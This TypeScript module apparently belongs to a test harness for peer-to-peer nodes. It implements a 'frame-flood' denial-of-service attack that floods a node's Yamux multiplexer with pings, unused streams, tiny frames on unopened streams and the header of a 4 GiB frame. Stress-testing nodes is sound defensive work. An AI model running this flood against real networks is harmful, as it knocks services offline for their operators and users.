import { setTimeout as sleep } from 'node:timers/promises';
import { type Attack, sentByAll, type Target } from '../attack.ts';
import { connectRawStranger, yamuxHeader } from '../raw-stranger.ts';

const STRANGERS = 4;
const PAUSE_MS = 20;
/** Yamux: frames of types and flags. */
const DATA = 0;
const WINDOW = 1;
const PING = 2;
const SYN = 1;
const FRAMES = 2_000;
const GIANT = 0xffff_ffff;

const many = (frame: (i: number) => Uint8Array): Buffer =>
  Buffer.concat(Array.from({ length: FRAMES }, (_, i) => frame(i)));

/** What a stranger sends under the muxer, again and again. */
const FLOODS: readonly ((round: number) => Uint8Array)[] = [
  () => many((i) => yamuxHeader(PING, SYN, 0, i)),
  // Streams that are opened, and never used.
  (round) => many((i) => yamuxHeader(WINDOW, SYN, 2 * (round * FRAMES + i) + 1, 0)),
  // Frames of one byte on a stream that nobody opened.
  () => many(() => Buffer.concat([yamuxHeader(DATA, 0, 1, 1), Uint8Array.of(0)])),
  // The beginning of a frame of 4 GiB.
  (round) => (round === 0 ? yamuxHeader(DATA, SYN, 1, GIANT) : Buffer.alloc(256 << 10)),
];

const flood = async (
  { p2p }: Target,
  signal: AbortSignal,
  bytes: (round: number) => Uint8Array,
): Promise<number> => {
  let sent = 0;
  while (!signal.aborted) {
    const stranger = await connectRawStranger(p2p.multiaddr).catch(() => undefined);
    for (let round = 0; stranger?.isConnected() && !signal.aborted; round++) {
      const chunk = bytes(round);
      if (stranger.encrypted.status !== 'open') break;
      sent += chunk.length;
      // A node that does not read is left alone for a moment, so that the attacker's memory does not grow.
      if (!stranger.encrypted.send(chunk)) await sleep(PAUSE_MS);
      await sleep(1);
    }
    await stranger?.stop();
    await sleep(PAUSE_MS);
  }
  return sent;
};

export const attack: Attack = {
  name: 'frame-flood',
  what: 'Authenticated strangers flood with pings, with streams, with tiny frames and with the beginning of a giant one.',
  run: async ({ targets }, signal) => {
    const floods = targets.flatMap((target) =>
      Array.from({ length: STRANGERS }, (_, i) =>
        flood(target, signal, FLOODS[i % FLOODS.length] ?? (() => new Uint8Array(0))),
      ),
    );
    return sentByAll(floods);
  },
};
